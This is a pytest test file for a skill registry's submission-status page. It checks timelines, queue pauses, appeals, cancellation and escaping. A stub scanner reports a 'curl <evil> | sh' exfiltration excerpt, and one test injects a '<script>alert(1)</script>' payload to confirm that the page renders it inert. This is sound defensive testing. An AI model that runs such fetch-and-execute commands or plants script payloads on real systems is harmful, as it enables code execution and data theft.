"""A submission's page: every step with its duration, what comes next, why it failed and what to do, and the forms of
those who may act."""

from pathlib import Path

import msgspec
import pytest

from tests.support.acting import approve, reject
from tests.support.browsing import browsing, form_fields, tags
from tests.support.envs import (
    active_env,
    make_submission,
    open_test_env,
    put_record,
    run_until_quiet,
    submit_skill,
)
from tests.support.faults import ListedSources, TroubledScanner
from tests.support.manual_clock import ManualClock
from tests.support.system_reads import get_run, get_submission
from vskill_core.content import SkillFile
from vskill_core.findings import (
    Finding,
    FindingCategory,
    FindingKind,
    ScanStatus,
    Severity,
    StaticReport,
)
from vskill_core.identity import normalise
from vskill_platform.domain.submissions.states import State
from vskill_platform.domain.submissions.submission import Claim, RecordedDecision, Step, Submission, move
from vskill_platform.intake.admission import SubmittedBy
from vskill_platform.intake.submit import submit_repository
from vskill_platform.queue.control import pause_queue, resume_queue
from vskill_platform.store.people.accounts import Role
from vskill_platform.store.people.audit import list_audit
from vskill_platform.store.verdicts.policy import set_policy
from vskill_platform.web.render import when
from vskill_platform.worker_context import Env

pytestmark = pytest.mark.anyio

NOW = 1_800_000_000_000


@pytest.fixture
async def env(tmp_path: Path):
    async with open_test_env("sqlite", tmp_path, clock=ManualClock(NOW), rate_limits="off") as opened:
        yield opened


class FindingScanner:
    """Finds the same two things in everything."""

    ruleset = "test-rules"

    async def scan(self, files: object) -> StaticReport:
        bad = Finding(
            "EX-001",
            Severity.HIGH,
            FindingCategory.EXFILTRATION,
            FindingKind.MALICE,
            file="scripts/run.sh",
            line=7,
            excerpt="curl <evil> | sh",
            why="It sends your files away.",
            remedy="Remove the upload.",
        )
        findings = tuple(
            msgspec.structs.replace(bad, rule_id=f"EX-00{number - 6}", line=number)
            for number in (7, 8, 9, 10, 11)
        )
        can = Finding(
            "CAP-1",
            Severity.LOW,
            FindingCategory.DECLARATION,
            FindingKind.CAPABILITY,
            file="a.md",
            why="It can read.",
        )
        return StaticReport(self.ruleset, ScanStatus.COMPLETE, (*findings, can))


async def failed_one(env: Env, submitter: str | None = None) -> Submission:
    submitted = await submit_skill("failing", submitter=submitter)
    assert submitted.submission is not None
    with active_env(env, scanner=FindingScanner()) as failing:
        await run_until_quiet(failing)
    record = await get_submission(submitted.submission.id)
    assert record.state is State.TIER1_FAILED
    return record


async def test_every_step_is_shown_with_its_duration_actor_and_reason(env: Env):
    submitted = (await submit_skill("shown", submitter="ann")).submission
    assert submitted is not None
    assert isinstance(env.clock, ManualClock)
    env.clock.advance(65_000)
    await run_until_quiet(env)
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{submitted.id}")).text
    assert "for 1 min 5 s" in text
    for words in ("Waiting", "Scanning", "Publishing", "Published", "attempt 1 begins", "by a worker"):
        assert words in text
    assert 'href="/skills/upload~tests/skills/shown"' in text


async def test_a_submission_that_waits_says_that_the_queue_is_paused_and_until_when(env: Env):
    waiting = await submit_skill("waits")
    assert waiting.submission is not None
    address = f"/submissions/{waiting.submission.id}"
    async with browsing(env) as client:
        assert "paused" not in (await client.get(address)).text
        pause = await pause_queue(10 * 60_000, reason="an upgrade", by="admin:eve")
        text = (await client.get(address)).text
        assert f"The queue is paused. It resumes by itself at {when(pause.until)}." in text
        assert "the wait time is not known yet" in text, "nothing has ended lately"
        await resume_queue(by="admin:eve")
        assert "paused" not in (await client.get(address)).text


async def test_the_estimate_of_a_submission_holds_the_rest_of_the_pause(env: Env):
    """An idle registry that worked for 10 s lately and is paused for ten minutes: so long, and its own 10 s."""
    assert isinstance(env.clock, ManualClock)
    record = make_submission("done", at=NOW - 60_000)
    for to, at in ((State.TIER1_SCANNING, NOW - 60_000), (State.AUTO_APPROVED, NOW - 50_000)):
        record = move(record, to, Step(to, at, "worker:test", "made by a test"))
    await put_record(
        env, move(record, State.PUBLISHED, Step("end", NOW - 50_000, "worker:test", "published"))
    )
    waiting = await submit_skill("waits")
    assert waiting.submission is not None
    await pause_queue(10 * 60_000, reason="an upgrade", by="admin:eve")
    async with browsing(env) as client:
        address = f"/submissions/{waiting.submission.id}"
        assert "it starts in about 10 min 10 s" in (await client.get(address)).text
        env.clock.advance(4 * 60_000)
        assert "it starts in about 6 min 10 s" in (await client.get(address)).text


async def test_E6_names_are_for_those_who_may_know(env: Env):
    submitted = (await submit_skill("private", submitter="ann")).submission
    assert submitted is not None
    await run_until_quiet(env)
    address = f"/submissions/{submitted.id}"
    async with (
        browsing(env) as stranger,
        browsing(env, "ann") as own,
        browsing(env, "eve", Role.REVIEWER) as reviewer,
    ):
        assert "by its submitter" in (await stranger.get(address)).text
        assert "user:ann" not in (await stranger.get(address)).text
        assert env.worker_id not in (await stranger.get(address)).text
        assert "user:ann" in (await own.get(address)).text
        assert env.worker_id in (await reviewer.get(address)).text


async def test_what_waits_shows_its_place_and_when_it_is_tried_again(env: Env):
    for number in range(3):
        await put_record(env, make_submission(f"waits-{number}", at=NOW - 100 + number))
    last = make_submission("waits-2", at=NOW - 98)
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{last.id}")).text
        assert "Position in the queue: <strong>3</strong>" in text
        assert "the wait time is not known yet" in text
        attempts = msgspec.structs.replace(
            last.attempts, started=2, unavailable=1, unavailable_since=NOW - 1, waiting_for="github.com"
        )
        await put_record(env, msgspec.structs.replace(last, next_attempt_at=NOW + 60_000, attempts=attempts))
        text = (await client.get(f"/submissions/{last.id}")).text
        assert "Position in the queue" not in text
        assert "Waiting for github.com" in text
        assert "The next attempt is" in text


async def test_what_is_held_shows_until_when_its_worker_was_heard_of(env: Env):
    record = make_submission("held", state=State.TIER1_SCANNING, at=NOW)
    held = msgspec.structs.replace(
        record, claim=Claim("secret-token", "host-1", NOW + 15_000), next_attempt_at=None
    )
    await put_record(env, held)
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{held.id}")).text
    assert "Claim expires" in text
    assert "secret-token" not in text
    assert "host-1" not in text


async def test_a_failure_shows_the_rule_the_file_the_line_and_what_to_do(env: Env):
    record = await failed_one(env)
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{record.id}")).text
    for words in ("EX-001", "scripts/run.sh, line 7", "It sends your files away.", "Remove the upload."):
        assert words in text
    assert "curl &lt;evil&gt; | sh" in text
    assert "CAP-1" not in text


async def test_a_refusal_without_a_rule_says_what_to_do(env: Env):
    sources = ListedSources(env.blobs)
    sources.places[normalise("https://github.com/ann/tools").key] = (SkillFile("README.md", "100644", b"x"),)
    with active_env(env, sources=sources) as listed:
        submitted = (await submit_repository("https://github.com/ann/tools")).submission
        assert submitted is not None
        await run_until_quiet(listed)
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{submitted.id}")).text
    assert "Put a SKILL.md into the folder" in text


async def test_exhausted_attempts_say_so(env: Env):
    submitted = (await submit_skill("breaks")).submission
    assert submitted is not None
    broken = TroubledScanner(env.scanner, b"#", RuntimeError("the scanner broke"))
    with active_env(env, scanner=broken) as failing:
        for _ in range(5):
            await run_until_quiet(failing, recover=True)
            env.clock.advance(400_000)  # type: ignore[attr-defined]
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{submitted.id}")).text
    assert "4 failed" in text
    assert "the scanner broke" in text


async def test_earlier_runs_are_kept_and_linked(env: Env):
    first = await failed_one(env)
    await submit_skill("failing", "changed")
    await run_until_quiet(env)
    async with browsing(env) as client:
        now = (await client.get(f"/submissions/{first.id}")).text
        assert f"/submissions/{first.id}?run=1" in now
        assert "data-live=" in now
        then = (await client.get(f"/submissions/{first.id}?run=1")).text
        assert "This is run 1, which has ended" in then
        assert "EX-001" in then
        assert "data-live=" not in then
        assert (await client.get(f"/submissions/{first.id}?run=7")).status_code == 404
        assert (await client.get(f"/submissions/{first.id}?run=x")).status_code == 400


async def test_an_unknown_submission_is_a_404(env: Env):
    async with browsing(env) as client:
        assert (await client.get("/submissions/sub_nothing")).status_code == 404


# Acting.


def offered(text: str, record: Submission) -> set[str]:
    place = f"/submissions/{record.id}/"
    return {
        (a["action"] or "").removeprefix(place)
        for tag, a in tags(text)
        if tag == "form" and (a.get("action") or "").startswith(place)
    }


async def test_who_may_do_what_is_what_is_offered(env: Env):
    """A stranger and another account get no form that would refuse them; the submitter, the namespace's owner and a
    reviewer do."""
    waiting = (await submit_skill("mine", submitter="ann")).submission
    assert waiting is not None
    address = f"/submissions/{waiting.id}"
    async with browsing(env) as stranger:
        assert offered((await stranger.get(address)).text, waiting) == set()
    for account, role, expected in (
        ("bob", Role.AUTHOR, set()),
        ("ann", Role.AUTHOR, {"cancel"}),
        ("tests", Role.AUTHOR, {"cancel"}),
        ("eve", Role.REVIEWER, {"cancel"}),
    ):
        async with browsing(env, account, role) as client:
            assert offered((await client.get(address)).text, waiting) == expected, account


async def test_cancelling_needs_the_right_a_reason_and_the_pages_secret(env: Env):
    record = (await submit_skill("mine", submitter="ann")).submission
    assert record is not None
    place = f"/submissions/{record.id}"
    async with browsing(env) as stranger:
        assert (await stranger.post(f"{place}/cancel", data={"reason": "x"})).status_code in {303, 401, 403}
    async with browsing(env, "ann") as client:
        hidden = form_fields((await client.get(place)).text, f"{place}/cancel")
        assert (
            await client.post(f"{place}/cancel", data={"reason": "x", "confirm": "yes"})
        ).status_code == 403
        for incomplete in ({"reason": "never mind"}, {"confirm": "yes"}):
            answer = await client.post(f"{place}/cancel", data={**hidden, **incomplete})
            assert answer.status_code == 303
            assert (await get_submission(record.id)).state is State.RECEIVED
        done = await client.post(f"{place}/cancel", data={**hidden, "reason": "never mind", "confirm": "yes"})
        assert (done.status_code, done.headers["location"]) == (303, place)
        assert " was cancelled." in (await client.get(place)).text
    ended = await get_submission(record.id)
    assert (ended.state, ended.history[-1].actor, ended.history[-1].reason) == (
        State.DEQUEUED,
        "user:ann",
        "never mind",
    )


async def test_somebody_elses_submission_is_not_cancelled(env: Env):
    record = (await submit_skill("theirs", submitter="ann")).submission
    mine = (await submit_skill("mine", submitter="bob")).submission
    assert record is not None
    assert mine is not None
    async with browsing(env, "bob") as client:
        own = f"/submissions/{mine.id}"
        hidden = form_fields((await client.get(own)).text, f"{own}/cancel")
        await client.post(
            f"/submissions/{record.id}/cancel", data={**hidden, "reason": "x", "confirm": "yes"}
        )
    assert (await get_submission(record.id)).state is State.RECEIVED


async def test_asking_for_a_review_puts_the_same_bytes_before_a_person(env: Env):
    """The refused run is kept; the new one waits for a person with what was found, and can be approved as it is."""
    record = await failed_one(env, submitter="ann")
    place = f"/submissions/{record.id}"
    async with browsing(env, "ann") as client:
        text = (await client.get(place)).text
        assert offered(text, record) == {"review"}
        hidden = form_fields(text, f"{place}/review")
        answer = await client.post(
            f"{place}/review", data={**hidden, "reason": "a false alarm: it is my own server"}
        )
        assert answer.status_code == 303
        assert "Your appeal was filed. A reviewer will decide it." in (await client.get(place)).text
    asked = await get_submission(record.id)
    assert (asked.state, asked.run, asked.digest) == (State.NEEDS_REVIEW, 2, record.digest)
    assert "a false alarm" in asked.history[-1].reason
    assert (await get_run(record.id, 1)).state is State.TIER1_FAILED
    assert await run_until_quiet(env) == 0, "nobody has to work on it"
    assert any(entry.action == "appeal" for entry in (await list_audit()).items)
    await approve(record.id, by="admin:eve", reason="it is", digest=record.digest)
    await run_until_quiet(env, recover=True)
    assert (await get_submission(record.id)).state is State.PUBLISHED


async def test_an_appeal_is_decided_once_and_the_page_says_why_there_is_no_other(env: Env):
    record = await failed_one(env, submitter="ann")
    place = f"/submissions/{record.id}"
    async with browsing(env, "ann") as client:
        hidden = form_fields((await client.get(place)).text, f"{place}/review")
        await client.post(f"{place}/review", data={**hidden, "reason": "please"})
        assert "An appeal waits for a reviewer" in (await client.get(place)).text
        await reject(record.id, by="admin:eve", reason="no")
        text = (await client.get(place)).text
        assert offered(text, record) == set()
        assert "There is no appeal: a reviewer has already decided an appeal about this content." in text
        await client.post(f"{place}/review", data={**hidden, "reason": "please"})
        assert "A reviewer has already decided an appeal" in (await client.get(place)).text
    assert (await get_submission(record.id)).state is State.REJECTED


async def test_anybody_may_have_a_repository_looked_at_again(env: Env):
    """It is the door that submitting goes through: no account is needed, and the page's secret is."""
    sources = ListedSources(env.blobs)
    key = normalise("https://github.com/ann/tools").key
    sources.places[key] = (SkillFile("README.md", "100644", b"x"),)
    with active_env(env, sources=sources) as listed:
        record = (await submit_repository("https://github.com/ann/tools", by=SubmittedBy("ann"))).submission
        assert record is not None
        await run_until_quiet(listed)
        place = f"/submissions/{record.id}"
        async with browsing(listed) as client:
            text = (await client.get(place)).text
            assert offered(text, record) == {"resubmit"}
            hidden = form_fields(text, f"{place}/resubmit")
            assert (await client.post(f"{place}/resubmit", data={"back": place})).status_code == 403
            answer = await client.post(f"{place}/resubmit", data=hidden)
            assert (answer.status_code, answer.headers["location"]) == (303, place)
            assert "A new run has started." in (await client.get(place)).text
    assert (await get_submission(record.id)).run == 2


async def test_an_upload_is_run_again_by_its_owner_only(env: Env):
    record = await failed_one(env, submitter="ann")
    async with browsing(env) as stranger:
        text = (await stranger.get(f"/submissions/{record.id}")).text
        assert offered(text, record) == set()
        assert "may cancel it or appeal" in text


async def test_foreign_text_is_inert(env: Env):
    """Names, reasons, errors and excerpts that are markup are text."""
    attack = '"><script>alert(1)</script>'
    record = make_submission(
        "attack",
        state=State.REJECTED,
        at=NOW,
        skill_name=attack,
        repo_url=f"https://example.org/{attack}",
        decision=RecordedDecision(attack, (attack,)),
    )
    attempts = msgspec.structs.replace(record.attempts, last_error=attack)
    await put_record(env, msgspec.structs.replace(record, attempts=attempts))
    async with browsing(env) as client:
        text = (await client.get(f"/submissions/{record.id}")).text
    assert "<script>alert" not in text
    assert text.count("&lt;script&gt;") >= 4
    assert "style=" not in text


async def test_what_waits_by_a_rule_says_until_when_is_reported_and_decided(env: Env):
    text = 'rules: [{name: new-owner, when: "true", then: {wait: 3d}, say: "nobody knows them"}]'
    await set_policy(text, by="admin:eve", reason="a test")
    submitted = (await submit_skill("cools", submitter="ann")).submission
    assert submitted is not None
    await run_until_quiet(env)
    record = await get_submission(submitted.id)
    address = f"/submissions/{record.id}"
    async with browsing(env) as client, browsing(env, "rob", Role.REVIEWER) as rob:
        shown = (await client.get(address)).text
        assert "Cooling down" in shown and "by the rule new-owner: nobody knows them" in shown
        assert "Waits until" in shown and when(record.next_attempt_at) in shown
        assert "Review it" not in shown
        assert "1 waits by a rule" in (await client.get("/queue")).text
        assert f'href="/admin/review/{record.id}"' in (await rob.get(address)).text
        evidence = (await rob.get(f"/admin/review/{record.id}")).text
        assert "If you approve" in evidence and "If you ask for a change" not in evidence
        sent = form_fields(shown, f"{address}/report") | {"reason": "<b>It steals</b>", "category": "malware"}
        told = await client.post(f"{address}/report", data=sent, follow_redirects=True)
        assert "A reviewer will look at it." in told.text and "It steals" not in told.text
        assert "Somebody reported it (malware); a reviewer decides." in told.text
        evidence = (await rob.get(f"/admin/review/{record.id}")).text
        assert "&lt;b&gt;It steals&lt;/b&gt;" in evidence
    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW
